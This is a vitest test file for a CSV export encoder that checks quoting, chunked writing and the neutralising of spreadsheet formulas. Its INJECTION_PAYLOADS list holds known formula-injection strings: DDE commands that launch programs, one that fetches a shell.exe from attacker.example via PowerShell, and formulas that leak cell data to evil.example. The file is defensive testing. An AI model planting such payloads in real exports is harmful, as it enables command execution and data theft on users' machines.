/**
 * The CSV encoder (electron/main/export/csv.ts), checked by parsing its output back with an
 * independent parser (csv-parse) field by field, and the file writer's byte-level fast path
 * checked byte for byte against the string encoder on generated rows.
 */
import { mkdtempSync, openSync, closeSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { afterAll, describe, expect, it } from 'vitest';
import type { CsvOptions } from '../../shared/contract.ts';
import {
  CSV_DELIMITERS,
  CsvFileWriter,
  createCsvRowEncoder,
  encodeCsv,
  encodeCsvField,
  neutralizeFormula,
  startsLikeFormula,
  type CsvValue,
} from '../../electron/main/export/csv.ts';

const DELIMITERS = ['comma', 'semicolon', 'tab'] as const;

/** Known CSV/formula-injection payloads (OWASP "CSV Injection", PayloadsAllTheThings). */
const INJECTION_PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0`,
  `+cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click here")`,
  `=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")`,
  `=WEBSERVICE("http://evil.example/"&A1)`,
  `=DDE("cmd";"/C calc";"__DdeLink_60_870516294")`,
  `=1+1`,
  `+1+1`,
  `-1+1`,
  `@A1`,
  `=A1;=B2`,
  '\t=1+1',
  '\r=1+1',
  '\0=1+1',
  '=\n1+1',
  `="=1+1"`,
  `+"quoted, with comma"`,
];

/** Values that stress quoting and encodings. */
const HARD_VALUES: string[] = [
  '',
  'plain',
  'Zoë Ångström-Ñúñez',
  '東京都 千代田区',
  'مرحبا بالعالم',
  'emoji 👍🏽 and 🇩🇪',
  'say "hello"',
  '"',
  '""',
  'a,b',
  'a;b',
  'a\tb',
  'line1\nline2',
  'line1\r\nline2',
  'cr\ronly',
  ' leading and trailing ',
  "it's",
  'ends with quote"',
  '\u00a0non-breaking',
  'nul\0inside',
  '\uFEFFstarts with a BOM character',
  ...INJECTION_PAYLOADS,
];

function options(delimiter: CsvOptions['delimiter'], bom: boolean, neutralizeFormulas = true): CsvOptions {
  return { delimiter, bom, neutralizeFormulas };
}

function parseBack(text: string, o: CsvOptions): string[][] {
  return parse(text, { delimiter: CSV_DELIMITERS[o.delimiter], bom: o.bom, record_delimiter: '\r\n', relax_quotes: false }) as string[][];
}

/** What a cell should read as after parsing, per the documented rule. */
function expected(value: CsvValue, neutralize: boolean): string {
  if (value === null || value === undefined) return '';
  if (typeof value === 'string') return neutralize ? neutralizeFormula(value) : value;
  return String(value);
}

describe('csv encoder', () => {
  const dir = mkdtempSync(join(tmpdir(), 'letterdesk-csv-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  for (const delimiter of DELIMITERS) {
    for (const bom of [false, true]) {
      for (const neutralize of [true, false]) {
        it(`round-trips hard values (${delimiter}, bom=${bom}, neutralize=${neutralize})`, () => {
          const o = options(delimiter, bom, neutralize);
          // Each hard value in every column position, next to other hard values.
          const rows: CsvValue[][] = HARD_VALUES.map((v, i) => [v, HARD_VALUES[(i + 7) % HARD_VALUES.length]!, i, -i, null, v]);
          const header = ['text', 'other', 'n', 'negative', 'empty', 'again'];
          const text = encodeCsv(header, rows, o);
          expect(text.startsWith('\uFEFF')).toBe(bom);
          expect(text.endsWith('\r\n')).toBe(true);
          const parsed = parseBack(text, o);
          expect(parsed[0]).toEqual(header);
          expect(parsed).toHaveLength(rows.length + 1);
          rows.forEach((row, i) => {
            expect(parsed[i + 1]).toEqual(row.map((v) => expected(v, neutralize)));
          });
        });
      }
    }
  }

  it('neutralises every known injection payload, and only those cells', () => {
    const o = options('comma', false);
    const text = encodeCsv(null, INJECTION_PAYLOADS.map((p) => [p, 'Harmless Name']), o);
    const parsed = parseBack(text, o);
    expect(parsed).toHaveLength(INJECTION_PAYLOADS.length);
    parsed.forEach((cells, i) => {
      expect(cells[0]).toBe(neutralizeFormula(INJECTION_PAYLOADS[i]!));
      expect(cells[0]!.startsWith("'")).toBe(true);
      expect(cells[1]).toBe('Harmless Name');
    });
    for (const p of INJECTION_PAYLOADS) expect(startsLikeFormula(p)).toBe(true);
  });

  it('follows the documented rule exactly', () => {
    const o = options('comma', false);
    expect(neutralizeFormula('=1')).toBe("'=1");
    expect(neutralizeFormula('a=1')).toBe('a=1');
    expect(neutralizeFormula('')).toBe('');
    // The first character after leading whitespace decides; TAB or CR in that whitespace counts.
    expect(neutralizeFormula(' =1')).toBe("' =1");
    expect(neutralizeFormula('\u00a0\u3000+1')).toBe("'\u00a0\u3000+1");
    expect(neutralizeFormula('  \t x')).toBe("'  \t x");
    expect(neutralizeFormula('  \n x')).toBe('  \n x');
    expect(neutralizeFormula('   ')).toBe('   ');
    // Fullwidth forms.
    for (const c of ['＝', '＋', '－', '＠']) expect(neutralizeFormula(`${c}1`)).toBe(`'${c}1`);
    // A quote, comma or semicolon first could end the quoted cell early in a reader with another separator.
    expect(startsLikeFormula('";=1')).toBe(false);
    for (const t of ['";=1', ' ;=1', ',x', '"quoted"']) expect(neutralizeFormula(t)).toBe(`'${t}`);
    expect(neutralizeFormula('a;=1')).toBe('a;=1');
    // Inside a cell, a TAB, CR or LF before (blanks, then) a starter or cell-breaking character gets a ' after it.
    expect(neutralizeFormula('a\t=1')).toBe("a\t'=1");
    expect(neutralizeFormula('\t=1+1')).toBe("'\t'=1+1");
    expect(neutralizeFormula('\r=1+1')).toBe("'\r'=1+1");
    expect(neutralizeFormula('a\r\n\t -1')).toBe("a\r\n\t' -1");
    expect(neutralizeFormula('a\n"=1')).toBe(`a\n'"=1`);
    for (const c of ['+', '-', '@', ';', ',', '\0', '＝', '＋', '－', '＠']) expect(neutralizeFormula(`x\n${c}1`)).toBe(`x\n'${c}1`);
    expect(neutralizeFormula('a\tb\n c')).toBe('a\tb\n c');
    expect(encodeCsvField('a\t=1 "x"', o)).toBe(`"a\t'=1 ""x"""`);
    // Text "-5" is neutralised; the number -5 is not.
    expect(encodeCsvField('-5', o)).toBe(`"'-5"`);
    expect(encodeCsvField(-5, o)).toBe('"-5"');
    expect(encodeCsvField(-5n, o)).toBe('"-5"');
    expect(encodeCsvField(2.5, o)).toBe('"2.5"');
    expect(encodeCsvField(true, o)).toBe('"true"');
    expect(encodeCsvField(null, o)).toBe('""');
    expect(encodeCsvField(new TextEncoder().encode('=x'), o)).toBe(`"'=x"`);
    // The quote goes in before RFC 4180 quoting.
    expect(encodeCsvField('=1,2', o)).toBe(`"'=1,2"`);
    expect(encodeCsvField('+"a"', o)).toBe(`"'+""a"""`);
    // Turning the option off leaves the text as it is (still quoted).
    expect(encodeCsvField('=1', options('comma', false, false))).toBe('"=1"');
  });

  it('quotes every field, whatever it holds and whatever the delimiter', () => {
    const row = (delimiter: CsvOptions['delimiter'], values: CsvValue[]) => createCsvRowEncoder(options(delimiter, false))(values);
    expect(row('comma', ['a', 'b c', 'x;y', 'x\ty'])).toBe('"a","b c","x;y","x\ty"\r\n');
    expect(row('comma', ['a,b', 'q"', 'l\nf', 'c\rr'])).toBe('"a,b","q""","l\nf","c\rr"\r\n');
    expect(row('semicolon', ['a,b', 'a;b'])).toBe('"a,b";"a;b"\r\n');
    expect(row('tab', ['a,b', 'a;b', 'a\tb'])).toBe('"a,b"\t"a;b"\t"a\tb"\r\n');
    expect(row('comma', [null, undefined, '', 7, -1.5, false])).toBe('"","","","7","-1.5","false"\r\n');
    expect(row('comma', [])).toBe('\r\n');
  });

  it('writes large files in chunks that parse back row for row', () => {
    for (const delimiter of DELIMITERS) {
      for (const bom of [false, true]) {
        const o = options(delimiter, bom);
        const path = join(dir, `chunks-${delimiter}-${bom}.csv`);
        const fd = openSync(path, 'w');
        // A small chunk size forces many writes, some in the middle of multi-byte characters' rows.
        const writer = new CsvFileWriter(fd, o, 97);
        const rows: string[][] = [];
        let seed = 42;
        const alphabet = ['a', 'Z', ' ', ',', ';', '\t', '"', '\r', '\n', 'é', '日', '🎉', '=', '-', '+', '@', "'", '0'];
        for (let i = 0; i < 600; i++) {
          const row: string[] = [];
          for (let c = 0; c < 4; c++) {
            let s = '';
            const len = (seed = (seed * 1103515245 + 12345) % 2147483648) % 9;
            for (let k = 0; k < len; k++) s += alphabet[(seed = (seed * 1103515245 + 12345) % 2147483648) % alphabet.length];
            row.push(s);
          }
          rows.push(row);
          writer.writeRow([...row]);
        }
        writer.flush();
        closeSync(fd);
        const bytes = readFileSync(path);
        expect(writer.bytesWritten).toBe(bytes.length);
        expect(bytes[0] === 0xef && bytes[1] === 0xbb && bytes[2] === 0xbf).toBe(bom);
        const parsed = parseBack(bytes.toString('utf8'), o);
        expect(parsed).toEqual(rows.map((r) => r.map((v) => expected(v, true))));
      }
    }
  });

  /** Writes `rows` through a CsvFileWriter with `chunkBytes` and returns the file's bytes. */
  function writeFile(rows: readonly CsvValue[][], o: CsvOptions, chunkBytes: number, name: string): Buffer {
    const path = join(dir, name);
    const fd = openSync(path, 'w');
    const writer = new CsvFileWriter(fd, o, chunkBytes);
    for (const row of rows) writer.writeRow([...row]);
    writer.flush();
    closeSync(fd);
    const bytes = readFileSync(path);
    expect(writer.bytesWritten).toBe(bytes.length);
    return bytes;
  }

  // Cells that reach every path of the writer: plain ASCII (copied byte by byte), non-ASCII,
  // quoting, neutralising, a special character in the middle or at the end of a plain run,
  // numbers of every shape, null, and (lone surrogates included) any UTF-16 string.
  const TRIGGERS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0', '"', ',', ';', "'", ' ', 'a', 'Z', '0', 'é', '日', '🎉', '\uD800', '\uDFFF', '\u007F', '\u0080'];
  const cell: fc.Arbitrary<CsvValue> = fc.oneof(
    fc.string({ unit: fc.constantFrom(...TRIGGERS), maxLength: 12 }),
    fc.string({ maxLength: 30 }),
    fc.string({ unit: 'binary', maxLength: 20 }),
    fc.string({ unit: fc.constantFrom('a', 'b', ' ', '.', '@', '-'), minLength: 1, maxLength: 40 }),
    fc.integer(),
    fc.double(),
    fc.constant(null),
  );
  const rows = fc.array(fc.array(cell, { maxLength: 8 }), { maxLength: 40 });

  it('the file writer writes exactly the bytes of the string encoder, for any cells and any chunk size', () => {
    fc.assert(
      fc.property(rows, fc.constantFrom(...DELIMITERS), fc.boolean(), fc.boolean(), fc.constantFrom(16, 97, 4096, 1 << 20), (table, delimiter, bom, neutralize, chunk) => {
        const o = options(delimiter, bom, neutralize);
        const bytes = writeFile(table, o, chunk, 'property.csv');
        expect(bytes.equals(Buffer.from(encodeCsv(null, table, o), 'utf8'))).toBe(true);
      }),
      { seed: 8008, numRuns: 400 },
    );
  });

  it('the file writer output parses back with csv-parse to the documented cells', () => {
    const wellFormed = fc.oneof(
      fc.string({ unit: fc.constantFrom(...TRIGGERS.filter((t) => !/[\uD800-\uDFFF]/.test(t))), maxLength: 12 }),
      fc.string({ unit: 'grapheme', maxLength: 20 }),
      fc.integer(),
      fc.constant(null),
    );
    fc.assert(
      fc.property(fc.array(fc.array(wellFormed, { minLength: 1, maxLength: 6 }), { minLength: 1, maxLength: 30 }), fc.constantFrom(...DELIMITERS), fc.boolean(), fc.boolean(), (table, delimiter, bom, neutralize) => {
        // csv-parse reads a record holding only an empty field as an empty record: keep rows wider.
        const rowsOut = table.map((r) => [...r, 'end']);
        const o = options(delimiter, bom, neutralize);
        const text = writeFile(rowsOut, o, 4096, 'parse-back.csv').toString('utf8');
        const parsed = parse(text, { delimiter: CSV_DELIMITERS[o.delimiter], bom: o.bom, record_delimiter: '\r\n', relax_quotes: false, relax_column_count: true }) as string[][];
        expect(parsed).toEqual(rowsOut.map((r) => r.map((v) => expected(v, neutralize))));
      }),
      { seed: 4004, numRuns: 300 },
    );
  });

  it('the file writer takes rows longer than its buffer, and booleans, bigints and bytes, through the string encoder', () => {
    const o = options('comma', true);
    const long = `${'x'.repeat(5000)},"${'é'.repeat(3000)}`;
    const table: CsvValue[][] = [
      ['short', long, 3],
      [true, false, 12n, new TextEncoder().encode('=bytes, "quoted"'), null],
      [long, '=1+1', -2.5],
    ];
    for (const chunk of [16, 1024, 1 << 20]) {
      const bytes = writeFile(table, o, chunk, `long-${chunk}.csv`);
      expect(bytes.equals(Buffer.from(encodeCsv(null, table, o), 'utf8'))).toBe(true);
    }
  });
});
